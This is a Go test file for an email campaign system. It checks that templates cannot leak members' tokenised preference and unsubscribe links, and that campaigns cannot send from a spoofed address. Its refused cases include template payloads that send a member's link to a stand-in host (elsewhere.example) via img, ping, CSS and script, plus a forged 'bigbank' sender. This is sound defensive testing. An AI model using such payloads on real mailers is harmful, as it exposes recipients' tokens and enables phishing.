package campaigns

import (
	"context"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/regulars/regulars/campaigns/mailer"
	"github.com/regulars/regulars/campaigns/mailer/smtptest"
)

// TestMemberLinksReachOnlyWholeLinks renders templates that try to send a member's links
// elsewhere: in an <img>, inside another URL, disguised by printf, in an attribute value that
// holds an "<a href=", in the subject. Each is refused naming its field, at save time and when
// rendering for a member; the member's token never appears in what is refused or rendered apart
// from whole links. Whole links in <a href> and words of the text get the member's links.
func TestMemberLinksReachOnlyWholeLinks(t *testing.T) {
	t.Parallel()
	secret := []byte("0123456789abcdef0123456789abcdef")
	links := MemberLinks("https://club.example", secret, 42, testNow)
	token := links.Preferences[strings.Index(links.Preferences, "token=")+len("token="):]
	refused := []struct {
		name, field string
		c           Campaign
	}{
		{"an img src", "html", Campaign{HTML: `<img src="https://elsewhere.example/?p={{.Links.Preferences}}">`}},
		{"a whole img src", "html", Campaign{HTML: `<img src="{{.Links.Preferences}}">`}},
		{"a link that wraps it", "html", Campaign{HTML: `<a href="https://elsewhere.example/r?p={{.Links.Preferences}}">x</a>`}},
		{"a link with more after it", "html", Campaign{HTML: `<a href="{{.Links.Unsubscribe}}&x=1">x</a>`}},
		{"an href inside another attribute", "html", Campaign{HTML: `<td background='https://elsewhere.example/<a href="{{.Links.Preferences}}">'>x</td>`}},
		{"an href inside an img's alt", "html", Campaign{HTML: `<img alt='<a href="{{.Links.Preferences}}">' src="https://elsewhere.example/i.png">`}},
		{"a second href of a link", "html", Campaign{HTML: `<a href="https://shop.example/" href="{{.Links.Preferences}}">x</a>`}},
		{"a link that pings", "html", Campaign{HTML: `<a href="{{.Links.Preferences}}" ping="https://elsewhere.example/">x</a>`}},
		{"a style", "html", Campaign{HTML: `<p style="background: url({{.Links.Preferences}})">x</p>`}},
		{"the text of the HTML", "html", Campaign{HTML: `<p>{{.Links.Preferences}}</p>`}},
		{"a script", "html", Campaign{HTML: `<script>var p = "{{print .Links.Preferences}}";</script>`}},
		{"a textarea", "html", Campaign{HTML: `<textarea><a href="{{.Links.Preferences}}">x</a></textarea>`}},
		{"the subject", "subject", Campaign{Subject: `Hi {{.Links.Unsubscribe}}`}},
		{"inside a word of the text", "text", Campaign{Text: `https://elsewhere.example/?p={{.Links.Preferences}}`}},
		{"a text word with more before it", "text", Campaign{Text: `Here:{{.Links.Preferences}}`}},
		{"a text word with letters after it", "text", Campaign{Text: `{{.Links.Preferences}}x`}},
		{"a text word built by printf", "text", Campaign{Text: `{{printf "%s%s" .Links.Preferences .Links.Unsubscribe}}`}},
	}
	for _, tc := range refused {
		t.Run(tc.name+" is refused", func(t *testing.T) {
			c := tc.c
			if c.Subject == "" {
				c.Subject = "Hi"
			}
			if c.HTML == "" && c.Text == "" {
				c.Text = "Hi"
			}
			wantInvalid(t, Validate(context.Background(), &c, testFrom), tc.field)
			compiled, err := Compile(&c, testFrom)
			if err != nil {
				t.Fatal(err)
			}
			msg, err := compiled.Render(context.Background(), Recipient{To: "kari@example.com", Member: kari(), Links: links})
			me := wantInvalid(t, err, tc.field)
			if msg != nil || strings.Contains(me.Error(), token) {
				t.Errorf("the refusal carries the member's token: %v", err)
			}
		})
	}

	t.Run("whole links and words get the member's links", func(t *testing.T) {
		c := Campaign{Subject: "Hi", HTML: `<p><a href="{{.Links.Preferences}}">p</a> <A class="x" HREF='{{.Links.Unsubscribe}}'>u</A>` +
			`<a href={{.Links.Preferences}}>p2</a></p>` +
			`<p title='<a href="x">'>{{printf "%x" .Links.Preferences}}</p>`,
			Text: "Preferences: {{.Links.Preferences}}\nUnsubscribe <{{.Links.Unsubscribe}}>\n({{.Links.Preferences}})."}
		if err := Validate(context.Background(), &c, testFrom); err != nil {
			t.Fatal(err)
		}
		compiled, err := Compile(&c, testFrom)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := compiled.Render(context.Background(), Recipient{To: "kari@example.com", Member: kari(), Links: links})
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{`<a href="` + links.Preferences + `">p</a>`, `HREF='` + links.Unsubscribe + `'>u</A>`,
			`<a href="` + links.Preferences + `">p2</a>`} {
			if !strings.Contains(msg.HTML, want) {
				t.Errorf("the HTML lacks %s:\n%s", want, msg.HTML)
			}
		}
		if !strings.HasPrefix(msg.Text, "Preferences: "+links.Preferences+"\nUnsubscribe <"+links.Unsubscribe+">\n("+links.Preferences+").") {
			t.Errorf("text %q", msg.Text)
		}
		// printf "%x" shows the placeholder's bytes, never the member's.
		if strings.Contains(msg.HTML, hex.EncodeToString([]byte(links.Preferences))) ||
			strings.Count(msg.HTML, token) != 3 { // the template's two links and the footer's
			t.Errorf("the member's token is somewhere else than in the links:\n%s", msg.HTML)
		}
	})

	t.Run("previews get the placeholder links the club pages refuse", func(t *testing.T) {
		c := Campaign{Subject: "Hi", HTML: `<a href="{{.Links.Preferences}}">p</a>`, Text: "{{.Links.Unsubscribe}}"}
		compiled, err := Compile(&c, testFrom)
		if err != nil {
			t.Fatal(err)
		}
		preview := PlaceholderLinks("https://club.example")
		out, err := compiled.Preview(context.Background(), kari(), preview)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(out.HTML, `<a href="`+preview.Preferences+`">p</a>`) || !strings.HasPrefix(out.Text, preview.Unsubscribe) {
			t.Errorf("preview %q %q", out.HTML, out.Text)
		}
	})
}

// TestCampaignsSendFromTheConfiguredSender: a campaign may name the configured sender's address
// with another name, never another address; one stored before that rule goes out from the
// configured sender anyway.
func TestCampaignsSendFromTheConfiguredSender(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	ctx := context.Background()
	name, subject, text := "From", "Hi", "Hello"
	t.Run("another address is refused", func(t *testing.T) {
		from := "Security <security@bigbank.example>"
		_, err := Create(ctx, f.db, testFrom, Input{Name: &name, Subject: &subject, Text: &text, From: &from})
		me := wantInvalid(t, err, "from")
		if !strings.Contains(me.Fields["from"], "news@shop.example") {
			t.Errorf("from: %q, want it to name the configured address", me.Fields["from"])
		}
	})
	t.Run("another name for the same address is kept", func(t *testing.T) {
		from := "Records at the shop <NEWS@shop.example>"
		c, err := Create(ctx, f.db, testFrom, Input{Name: &name, Subject: &subject, Text: &text, From: &from})
		if err != nil {
			t.Fatal(err)
		}
		compiled, err := Compile(c, testFrom)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := compiled.Render(ctx, Recipient{To: "kari@example.com", Member: kari(), Links: testLinks})
		if err != nil {
			t.Fatal(err)
		}
		if msg.From != from {
			t.Errorf("From %q, want %q", msg.From, from)
		}
	})
	t.Run("a test send of a stored campaign with another address comes from the configured sender", func(t *testing.T) {
		var id int64
		if err := f.db.Pool.QueryRow(ctx, `INSERT INTO campaigns (name, subject, from_addr, html, text)
			VALUES ('Old', 'Hi', 'Security <security@bigbank.example>', '', 'Hello') RETURNING id`).Scan(&id); err != nil {
			t.Fatal(err)
		}
		srv := smtptest.New(t)
		sender, err := mailer.New(srv.URL(), "")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = sender.Close() })
		cfg := Config{BaseURL: "https://club.example", DefaultFrom: testFrom}
		if _, err := TestSend(ctx, f.db, sender, cfg, id, []string{"kari@example.com"}, nil); err != nil {
			t.Fatal(err)
		}
		msgs := srv.Messages()
		if len(msgs) != 1 || msgs[0].Header.Get("From") != `"Vinyl shop" <news@shop.example>` || msgs[0].From != "news@shop.example" {
			for _, m := range msgs {
				t.Logf("From %q, envelope %q", m.Header.Get("From"), m.From)
			}
			t.Errorf("the test send is not from the configured sender")
		}
	})
	t.Run("a stored campaign with another address goes out from the configured sender", func(t *testing.T) {
		compiled, err := Compile(&Campaign{Subject: "Hi", Text: "Hello", From: "security@bigbank.example"}, testFrom)
		if err != nil {
			t.Fatal(err)
		}
		msg, err := compiled.Render(ctx, Recipient{To: "kari@example.com", Member: kari(), Links: testLinks})
		if err != nil {
			t.Fatal(err)
		}
		if msg.From != testFrom {
			t.Errorf("From %q, want the configured %q", msg.From, testFrom)
		}
	})
}
